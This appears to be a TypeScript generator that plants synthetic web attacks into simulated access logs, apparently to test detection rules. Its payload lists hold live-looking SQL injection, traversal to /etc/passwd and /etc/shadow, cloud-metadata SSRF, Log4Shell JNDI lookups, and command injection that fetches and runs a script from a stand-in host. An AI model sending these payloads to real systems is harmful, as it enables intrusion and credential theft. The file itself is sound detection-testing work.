// Attacks on a web site as access logs show them, shaped from the site's own paths. Written apart from the rules.
import type { Random } from '../vocabulary/random.ts';
import type { KnownPath, SiteVocabulary } from './site-vocabulary.ts';

export type PlantedRequest = {
  /** Seconds after the attack began. */
  readonly after: number;
  readonly method: string;
  readonly target: string;
  readonly status: number;
  readonly size: number;
  readonly agent: string;
  /** '-' for none. */
  readonly referer: string;
};

/** One way an attack of a class may look. */
export type WebTemplate = (site: SiteVocabulary, random: Random) => PlantedRequest[];

function pick<T>(from: readonly T[], random: Random, otherwise: T): T {
  return from[random.below(Math.max(1, from.length))] ?? otherwise;
}

const anyPage: KnownPath = { path: '/index.php', query: 'id=1', size: 5000, posts: 0 };
const page = (site: SiteVocabulary, random: Random) => pick(site.paths, random, anyPage);
const browser = (site: SiteVocabulary, random: Random) =>
  pick(site.agents, random, 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36');

/** A parameter of the page itself where it has one. */
function parameter(known: KnownPath, random: Random): string {
  const name = /^([A-Za-z_][\w-]{0,30})=/.exec(known.query)?.[1];
  return name ?? pick(['id', 'page', 'q', 'item', 'cat', 'name'], random, 'id');
}

/** Payloads into a parameter of known pages: refused or unremarkable at first, then answered with far more than usual. */
function injected(payloads: readonly string[], tries = 14): WebTemplate {
  return (site, random) => {
    const known = page(site, random);
    const name = parameter(known, random);
    const agent = browser(site, random);
    const requests: PlantedRequest[] = [];
    let after = 0;
    for (let i = 0; i < tries; i += 1) {
      const payload = pick(payloads, random, '');
      const won = i >= tries - 2;
      requests.push({
        after,
        method: 'GET',
        target: `${known.path}?${name}=${payload}`,
        status: won ? 200 : pick([200, 200, 404, 500, 403], random, 200),
        size: won ? known.size * 3 + 6000 + random.below(20_000) : Math.max(200, known.size + random.below(40)),
        agent,
        referer: '-',
      });
      after += 1 + random.below(20);
    }
    return requests;
  };
}

/** Requests for paths that are not the site's own. */
function asked(paths: readonly string[], answers: readonly number[], own = false): WebTemplate {
  return (site, random) => {
    const agent = own
      ? browser(site, random)
      : pick(['curl/7.88.1', 'python-requests/2.31.0', 'Go-http-client/1.1'], random, '-');
    return paths.map((target, i) => ({
      after: i * (1 + random.below(5)),
      method: 'GET',
      target,
      status: answers[i % answers.length] ?? 404,
      size: 300 + random.below(9000),
      agent,
      referer: '-',
    }));
  };
}

const words = [
  'admin',
  'backup',
  'test',
  'old',
  'dev',
  'config',
  'data',
  'private',
  'tmp',
  'db',
  'sql',
  'api',
  'user',
  'login',
];
const suffixes = ['.php', '.bak', '.zip', '/', '.old', '.txt', '.tar.gz', '.sql', '.asp', '.jsp'];

function browse(count: number, agentOf: (site: SiteVocabulary, random: Random) => string): WebTemplate {
  return (site, random) => {
    const agent = agentOf(site, random);
    return Array.from({ length: count }, (_, i) => ({
      after: Math.floor(i / 4),
      method: random.below(5) === 0 ? 'HEAD' : 'GET',
      target: `/${pick(words, random, 'x')}${random.below(300)}${pick(suffixes, random, '/')}`,
      status: random.below(20) === 0 ? 403 : 404,
      size: 200 + random.below(90),
      agent,
      referer: '-',
    }));
  };
}

function loginPage(site: SiteVocabulary): string {
  return site.paths.find(({ path }) => /log-?in|sign-?in|auth/i.test(path))?.path ?? '/login';
}

function guessing(count: number, refused: number, won: number): WebTemplate {
  return (site, random) => {
    const target = loginPage(site);
    const agent = browser(site, random);
    return Array.from({ length: count }, (_, i) => ({
      after: i * 2 + random.below(2),
      method: 'POST',
      target,
      status: i === count - 1 ? won : refused,
      size: i === count - 1 ? 400 : 4200 + random.below(5),
      agent,
      referer: '-',
    }));
  };
}

const letters = (random: Random) =>
  Array.from({ length: 6 }, () => String.fromCharCode(97 + random.below(26))).join('');

/**
 * A page with answers, below one of the site's own folders. Each trial has its own: readers of one page would make each
 * other's reading a habit.
 */
function answerPage(site: SiteVocabulary, random: Random): string {
  const { path } = page(site, random);
  const folder = path.slice(0, path.lastIndexOf('/'));
  return `${folder}/${letters(random)}/${pick(['answers', 'results', 'members', 'entries'], random, 'answers')}`;
}

function reading(count: number, target: (path: string, i: number) => string, size: number): WebTemplate {
  return (site, random) => {
    const agent = browser(site, random);
    const path = answerPage(site, random);
    return Array.from({ length: count }, (_, i) => ({
      after: i * (1 + random.below(3)),
      method: 'GET',
      target: target(path, i),
      status: 200,
      size: size + random.below(900),
      agent,
      referer: '-',
    }));
  };
}

/** One or a few requests that succeed, as one who already has a foothold makes them. */
function visits(make: (site: SiteVocabulary, random: Random) => readonly Partial<PlantedRequest>[]): WebTemplate {
  return (site, random) => {
    const agent = browser(site, random);
    return make(site, random).map((given, i) => ({
      ...{
        after: i * (3 + random.below(30)),
        method: 'GET',
        target: '/',
        status: 200,
        size: 900 + random.below(3000),
        agent,
      },
      ...{ referer: '-', ...given },
    }));
  };
}

const name = (random: Random) => Math.floor(random.next() * 2 ** 40).toString(36);

export const webAttacks: Readonly<Record<string, readonly WebTemplate[]>> = {
  sqli: [
    injected(['1%20UNION%20SELECT%201,user,pass,4%20FROM%20users--', "1'%20OR%20'1'='1", '1%27%20AND%201=1--%20-']),
    injected([
      '1%20AND%20SLEEP(5)',
      "1;WAITFOR%20DELAY%20'0:0:5'--",
      '1%20AND%20(SELECT%201%20FROM(SELECT(SLEEP(5)))a)',
    ]),
    injected([
      '-1%2527%2520union%2520select%2520email%252Cname%2520from%2520members--%2520',
      '1%2527%2520or%25201%253D1%2523',
    ]),
    injected([
      "x'||(select+string_agg(email,',')+from+answers)||'",
      '1)+or+exists(select+1+from+information_schema.tables)--',
    ]),
  ],
  traversal: [
    injected(['../../../../etc/passwd', '..%2f..%2f..%2fetc%2fshadow', '....//....//etc/passwd']),
    injected(['%252e%252e%252f%252e%252e%252fetc%252fpasswd', '..%c0%af..%c0%afetc/passwd']),
    injected(['php://filter/convert.base64-encode/resource=../config', 'file:///etc/passwd', '/proc/self/environ']),
  ],
  cmdi: [
    injected([';cat%20/etc/passwd', '|id', '%60whoami%60', '$(curl%20http://198.51.100.9/x.sh|sh)']),
    injected(['127.0.0.1%26%26uname%20-a', '%0Aid%0A', ';wget%20http://198.51.100.9/a%20-O%20/tmp/a']),
    injected(['${@print(md5(1))}', "system('id')", 'assert($_POST[1])']),
  ],
  ssti: [
    injected(['{{7*7}}', "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"]),
    injected(['${7*7}', '%23set($x=%22e%22)$x.class.forName(%22java.lang.Runtime%22)', '%3C%25=7*7%25%3E']),
  ],
  log4shell: [
    injected(['${jndi:ldap://198.51.100.9:1389/a}', '${jndi:rmi://198.51.100.9/b}']),
    injected(['${${lower:j}ndi:${lower:l}dap://198.51.100.9/c}', '$%7B$%7B::-j%7Dndi:dns://198.51.100.9/d%7D']),
    visits((site, random) =>
      Array.from({ length: 12 }, () => ({ target: page(site, random).path, agent: '${jndi:ldap://198.51.100.9/ua}' })),
    ),
  ],
  xss: [
    injected(['%3Cscript%3Ealert(1)%3C/script%3E', '"><img%20src=x%20onerror=alert(1)>']),
    injected(['javascript:alert(document.cookie)', '%253Csvg%252Fonload%253Dalert(1)%253E']),
  ],
  ssrf: [
    injected(['http://169.254.169.254/latest/meta-data/iam/security-credentials/', 'http://127.0.0.1:6379/']),
    injected(['http://[::1]:8080/', 'gopher://127.0.0.1:3306/_x', 'http://0x7f000001/server-status']),
  ],
  rfi: [injected(['http://198.51.100.9/shell.txt?', 'https://198.51.100.9/c99.txt%00', 'ftp://198.51.100.9/r57.txt'])],
  injection: [
    injected(['%0d%0aSet-Cookie:%20a=b', 'x%0d%0aLocation:%20http://198.51.100.9/']),
    injected([
      '*)(uid=*))(|(uid=*',
      'admin)(%26(password=*))',
      '%3C!DOCTYPE%20a%20[%3C!ENTITY%20x%20SYSTEM%20%22file:///etc/passwd%22%3E]%3E',
    ]),
  ],
  webshell: [
    visits((_, random) => {
      const path = `/wp-content/uploads/2022/02/${name(random)}.php`;
      return [
        ...Array.from({ length: 3 }, () => ({ target: `${path}?cmd=id`, size: 60 })),
        ...Array.from({ length: 8 }, () => ({ target: `${path}?cmd=cat%20../../../wp-config.php`, size: 3200 })),
      ];
    }),
    visits((_, random) => {
      const path = `/uploads/${name(random)}.php`;
      return Array.from({ length: 12 }, (_unused, i) => ({
        method: i === 0 ? 'GET' : 'POST',
        target: path,
        size: 40 + random.below(9000),
      }));
    }),
    visits((site, random) => [
      { method: 'POST', target: '/upload.php', size: 300 },
      ...Array.from({ length: 10 }, () => ({
        method: 'POST',
        target: '/images/c99.php',
        size: 5000 + random.below(9000),
        referer: page(site, random).path,
      })),
    ]),
    // A quiet one: a new script with an ordinary name, spoken to in request bodies only.
    visits((_, random) => {
      const path = `/includes/${name(random)}.php`;
      return Array.from({ length: 6 }, () => ({ method: 'POST', target: path, size: 30 + random.below(4000) }));
    }),
  ],
  scanner: [
    browse(90, () => 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)'),
    browse(90, () => 'sqlmap/1.7.2#stable (https://sqlmap.org)'),
    browse(90, () => 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)'),
    browse(90, () => 'Wfuzz/3.1.0'),
  ],
  'sensitive-file': [
    asked(
      [
        '/.git/HEAD',
        '/.git/config',
        '/.git/index',
        '/.env',
        '/.env.bak',
        '/.svn/entries',
        '/config.php.bak',
        '/.aws/credentials',
      ],
      [200, 200, 200, 404],
    ),
    asked(
      ['/backup.sql', '/db.sql.gz', '/dump.sql', '/site.tar.gz', '/wp-config.php~', '/.htpasswd', '/id_rsa'],
      [200, 404, 404],
    ),
    asked(
      ['/phpinfo.php', '/server-status', '/.DS_Store', '/web.config', '/composer.lock', '/storage/logs/laravel.log'],
      [200, 403],
    ),
  ],
  probe: [
    asked(
      [
        '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
        '/cgi-bin/luci',
        '/solr/admin/info/system',
        '/actuator/env',
        '/manager/html',
        '/boaform/admin/formLogin',
        '/HNAP1/',
        '/_ignition/execute-solution',
        '/owa/auth/x.js',
        '/struts2-showcase/index.action',
        '/jenkins/script',
        '/console/',
      ],
      [200, 404, 500],
    ),
  ],
  protocol: [
    visits((_, random) =>
      Array.from({ length: 12 }, () => ({
        method: '',
        target: pick(['\\x16\\x03\\x01\\x00', '\\x03\\x00\\x00/*\\xE0', 'SSH-2.0-Go'], random, 'x'),
        status: 400,
        size: 226,
        agent: '-',
      })),
    ),
    visits(() =>
      Array.from({ length: 12 }, () => ({
        method: 'CONNECT',
        target: 'mail.example.net:25',
        status: 405,
        size: 300,
        agent: '-',
      })),
    ),
  ],
  'forced-browsing': [browse(120, browser), browse(300, browser)],
  'bruteforce-web': [guessing(60, 200, 302), guessing(45, 401, 200)],
  'bulk-read': [
    reading(240, (path, i) => `${path}?id=${1000 + i}`, 2600),
    reading(120, (path, i) => `${path}/${5000 + i}`, 3000),
    reading(90, (path, i) => `${path}/export.csv?page=${i + 1}`, 90_000),
  ],
  // What access logs cannot show: the payload in the body, the thief with a password. Planted, and honestly missed.
  'request-body': [
    visits((site, random) => {
      const form = site.paths.find(({ posts }) => posts > 0) ?? page(site, random);
      return Array.from({ length: 6 }, () => ({ method: 'POST', target: form.path, size: form.size }));
    }),
  ],
  'valid-credentials': [
    visits((site, random) =>
      Array.from({ length: 8 }, () => {
        const known = page(site, random);
        return { target: known.query ? `${known.path}?${known.query}` : known.path, size: known.size };
      }),
    ),
  ],
};
